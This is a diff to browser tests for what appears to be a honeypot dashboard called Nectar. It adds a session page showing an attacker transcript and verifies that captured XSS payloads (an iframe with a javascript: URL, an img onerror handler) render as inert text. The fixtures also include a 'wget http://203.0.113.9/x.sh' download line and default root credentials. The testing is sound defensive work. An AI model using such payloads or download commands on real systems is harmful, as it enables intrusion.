@@ -131,7 +131,8 @@ fn browser_logs_in_visits_every_page_and_filters() {
             "Event · Nectar",
         ),
         ("sessions", "/sessions", "Sessions · Nectar"),
-        ("session-detail", "/events?session=s0", "Events · Nectar"),
+        ("session-detail", "/sessions/s0", "Session · Nectar"),
+        ("session-events", "/events?session=s0", "Events · Nectar"),
         ("detection", "/detection", "Detection · Nectar"),
         ("hosts", "/hosts", "Hosts · Nectar"),
         ("settings", "/settings", "Settings · Nectar"),
@@ -153,10 +154,26 @@ fn browser_logs_in_visits_every_page_and_filters() {
     browser.find("nav a[href='/sessions']").click();
     wait_for_url(&browser, |u| u.ends_with("/sessions"));
     assert_eq!(browser.find_all("table.events tbody tr").len(), 3);
-    // The session page lists that session's events.
+    // The session page: its transcript oldest first, then all its events.
     browser
-        .find("table.events tbody tr a[href='/events?session=s0']")
+        .find("table.events tbody tr a[href='/sessions/s0']")
         .click();
+    wait_for_url(&browser, |u| u.ends_with("/sessions/s0"));
+    let transcript = browser.find_all("table.transcript tbody tr");
+    assert_eq!(transcript.len(), 12);
+    assert!(transcript[0].text().contains("root/pass0 refused"));
+    assert!(
+        transcript[11]
+            .text()
+            .contains("wget http://203.0.113.9/x.sh")
+    );
+    assert!(
+        browser
+            .find("table.fields")
+            .text()
+            .contains("root / 123456")
+    );
+    browser.find("a[href='/events?session=s0']").click();
     wait_for_url(&browser, |u| u.ends_with("/events?session=s0"));
     assert_eq!(browser.find_all("table.events tbody tr").len(), 12);
 
@@ -461,7 +478,11 @@ fn browser_runs_no_attacker_script_and_shows_payloads_as_text() {
         "/sessions".into(),
         "/settings".into(),
         format!("/events?session={honeypot_session}"),
+        format!("/sessions/{honeypot_session}"),
     ];
+    for i in 0..PAYLOADS.len() {
+        pages.push(format!("/sessions/xss-{i}"));
+    }
     for event in all_events(&url, &sensor, "") {
         pages.push(format!("/events/{}", event["id"].as_str().unwrap()));
     }
@@ -506,6 +527,19 @@ fn browser_runs_no_attacker_script_and_shows_payloads_as_text() {
     }
     // No raw terminal escape made it into the DOM.
     assert!(!seen_text.contains('\u{1b}'));
+    // The Telnet shell's session page names its recording.
+    let telnet_session = all_events(&url, &sensor, "kind=telnet.command")[0]["data"]["session"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    browser.goto(&format!("{url}/sessions/{telnet_session}"));
+    let fields = browser.find("table.fields").text();
+    assert!(fields.contains("Recording"), "{fields}");
+    let transcript = browser.find("table.transcript").text();
+    assert!(
+        transcript.contains("<iframe src=javascript:document.title='pwned10'>"),
+        "{transcript}"
+    );
     // A value too long for its cell is cut, and the whole is one click away.
     browser.goto(&format!("{url}/sessions"));
     let long = "<img src=x onerror=document.title='pwned2'>";
